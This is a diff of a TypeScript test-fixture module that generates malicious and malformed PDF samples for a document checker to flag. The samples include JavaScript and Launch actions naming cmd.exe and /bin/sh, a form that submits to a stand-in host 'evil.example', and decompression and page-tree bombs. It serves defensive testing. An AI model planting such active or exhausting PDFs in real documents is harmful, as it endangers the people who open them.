@@ -1,6 +1,6 @@
 import { deflateSync } from 'node:zlib';
 import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
-import type { Attack } from './attack-images.ts';
+import { type Attack, damaged, type Sample } from './attack-images.ts';
 import { fixture } from './fixtures.ts';
 
 /** A plain PDF with a correct cross-reference table from its objects' bodies; object 1 is the catalogue. */
@@ -32,31 +32,40 @@ const onePage = [
 const withAction = (action: string, ...more: string[]) =>
   plainPdf([`<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`, ...onePage, ...more]);
 
-/** PDFs that can be opened and want to do something: taken in, flagged, never run. */
-export async function activePdfs(): Promise<{ name: string; bytes: Buffer }[]> {
-  const scripted = await PDFDocument.create();
-  scripted.addPage();
-  scripted.addJavaScript('hello', 'app.alert(1)');
-  const attached = await PDFDocument.create();
-  attached.addPage();
-  await attached.attach(Buffer.from('MZ'), 'setup.exe', { mimeType: 'application/octet-stream' });
-  const pageScript = await PDFDocument.create();
-  const opening = { S: 'JavaScript', JS: PDFString.of('app.alert(2)') };
-  pageScript.addPage().node.set(PDFName.of('AA'), pageScript.context.obj({ O: opening }));
-  return [
-    { name: 'a script in a compressed name tree', bytes: Buffer.from(await scripted.save()) },
-    { name: 'an attached program', bytes: Buffer.from(await attached.save()) },
-    { name: 'a script when its page opens', bytes: Buffer.from(await pageScript.save()) },
-    { name: 'a script on opening', bytes: withAction('<< /S /JavaScript /JS (app.alert\\(1\\)) >>') },
-    { name: 'a script under an escaped name', bytes: withAction('<< /S /J#61vaScript /J#53 (x) >>') },
-    { name: 'a script in an object of its own', bytes: withAction('4 0 R', '<< /S /JavaScript /JS (x) >>') },
-    { name: 'a program to launch', bytes: withAction('<< /S /Launch /F (cmd.exe) >>') },
-    { name: 'a program under an escaped name', bytes: withAction('<< /S /L#61unch /F (/bin/sh) >>') },
-    { name: 'a form that sends itself', bytes: withAction('<< /S /SubmitForm /F (http://evil.example/) >>') },
-    { name: 'data that is imported', bytes: withAction('<< /S /ImportData /F (x.fdf) >>') },
-    { name: 'rich media', bytes: withAction('4 0 R', '<< /Type /Annot /Subtype /RichMedia >>') },
-  ];
+async function made(change: (document: PDFDocument) => unknown): Promise<Buffer> {
+  const document = await PDFDocument.create();
+  document.addPage();
+  await change(document);
+  return Buffer.from(await document.save());
 }
+const attach = (document: PDFDocument) =>
+  document.attach(Buffer.from('MZ'), 'setup.exe', { mimeType: 'application/octet-stream' });
+function scriptOfPage(document: PDFDocument): void {
+  const opening = { S: 'JavaScript', JS: PDFString.of('app.alert(2)') };
+  document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: opening }));
+}
+const acting = (name: string, action: string, ...more: string[]): Sample => ({
+  name,
+  make: () => withAction(action, ...more),
+});
+
+/** PDFs that can be opened and want to do something: taken in, flagged, never run. */
+export const activePdfs: readonly Sample[] = [
+  {
+    name: 'a script in a compressed name tree',
+    make: () => made((document) => document.addJavaScript('hello', 'app.alert(1)')),
+  },
+  { name: 'an attached program', make: () => made(attach) },
+  { name: 'a script when its page opens', make: () => made(scriptOfPage) },
+  acting('a script on opening', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
+  acting('a script under an escaped name', '<< /S /J#61vaScript /J#53 (x) >>'),
+  acting('a script in an object of its own', '4 0 R', '<< /S /JavaScript /JS (x) >>'),
+  acting('a program to launch', '<< /S /Launch /F (cmd.exe) >>'),
+  acting('a program under an escaped name', '<< /S /L#61unch /F (/bin/sh) >>'),
+  acting('a form that sends itself', '<< /S /SubmitForm /F (http://evil.example/) >>'),
+  acting('data that is imported', '<< /S /ImportData /F (x.fdf) >>'),
+  acting('rich media', '4 0 R', '<< /Type /Annot /Subtype /RichMedia >>'),
+];
 
 /** Of a cross-reference stream: 1 is a place in the file, 2 an object stream and the place in it. */
 export type Entry = [type: number, first: number, second: number];
@@ -112,39 +121,27 @@ const hugeTablePdf = () =>
     table: deflateSync(Buffer.alloc(200_000_000)),
   });
 
+const lease = () => fixture('documents/lease.pdf');
+const catalogue = '<< /Type /Catalog /Pages 2 0 R >>';
+const plain = (name: string, ...objects: string[]): Attack => damaged(name, () => plainPdf(objects));
+const encryption = `<< /Filter /Standard /V 1 /R 2 /P -4 /O (${'o'.repeat(32)}) /U (${'u'.repeat(32)}) >>`;
+const encrypted = '/Encrypt 4 0 R /ID [(0123456789abcdef) (0123456789abcdef)] ';
+
 /** PDFs that cannot be opened or were made to exhaust a reader. */
-export function damagedPdfs(): Attack[] {
-  const damaged = (name: string, bytes: Buffer): Attack => ({ name, bytes, code: 'file_damaged' });
-  const good = fixture('documents/lease.pdf');
-  const catalogue = '<< /Type /Catalog /Pages 2 0 R >>';
-  return [
-    damaged('a PDF head alone', Buffer.from('%PDF-1.7\n')),
-    damaged('a PDF head before a web page', Buffer.from('%PDF-1.7\n<script>alert(1)</script>')),
-    damaged('a PDF that lacks its end', good.subarray(0, good.length - 120)),
-    damaged('a PDF that lacks its second half', good.subarray(0, good.length >> 1)),
-    damaged('a PDF without pages', plainPdf([catalogue, '<< /Type /Pages /Kids [] /Count 0 >>'])),
-    damaged('a PDF without a page tree', plainPdf(['<< /Type /Catalog >>'])),
-    damaged(
-      'a page tree that holds itself',
-      plainPdf([catalogue, '<< /Type /Pages /Kids [2 0 R] /Count 5 >>']),
-    ),
-    damaged('a billion pages', plainPdf([catalogue, '<< /Type /Pages /Kids [] /Count 1000000000 >>'])),
-    damaged('a million open brackets', plainPdf([catalogue, '['.repeat(1_000_000)])),
-    damaged(
-      'a password',
-      plainPdf(
-        [
-          catalogue,
-          ...onePage,
-          `<< /Filter /Standard /V 1 /R 2 /P -4 /O (${'o'.repeat(32)}) /U (${'u'.repeat(32)}) >>`,
-        ],
-        '/Encrypt 4 0 R /ID [(0123456789abcdef) (0123456789abcdef)] ',
-      ),
-    ),
-    damaged('a page tree behind 400 MB of blanks in 0.4 MB', inflatingPdf(400)),
-    damaged('a cross-reference table of 30 million entries', hugeTablePdf()),
-  ];
-}
+export const damagedPdfs: readonly Attack[] = [
+  damaged('a PDF head alone', () => Buffer.from('%PDF-1.7\n')),
+  damaged('a PDF head before a web page', () => Buffer.from('%PDF-1.7\n<script>alert(1)</script>')),
+  damaged('a PDF that lacks its end', () => lease().subarray(0, -120)),
+  damaged('a PDF that lacks its second half', () => lease().subarray(0, lease().length >> 1)),
+  plain('a PDF without pages', catalogue, '<< /Type /Pages /Kids [] /Count 0 >>'),
+  plain('a PDF without a page tree', '<< /Type /Catalog >>'),
+  plain('a page tree that holds itself', catalogue, '<< /Type /Pages /Kids [2 0 R] /Count 5 >>'),
+  plain('a billion pages', catalogue, '<< /Type /Pages /Kids [] /Count 1000000000 >>'),
+  plain('a million open brackets', catalogue, '['.repeat(1_000_000)),
+  damaged('a password', () => plainPdf([catalogue, ...onePage, encryption], encrypted)),
+  damaged('a page tree behind 400 MB of blanks in 0.4 MB', () => inflatingPdf(400)),
+  damaged('a cross-reference table of 30 million entries', hugeTablePdf),
+];
 
 /** A PDF that costs a reader a quarter of a second and more for each thousand nodes: each page walks all of them. */
 export function burningPdf(nodes = 60_000): Buffer {
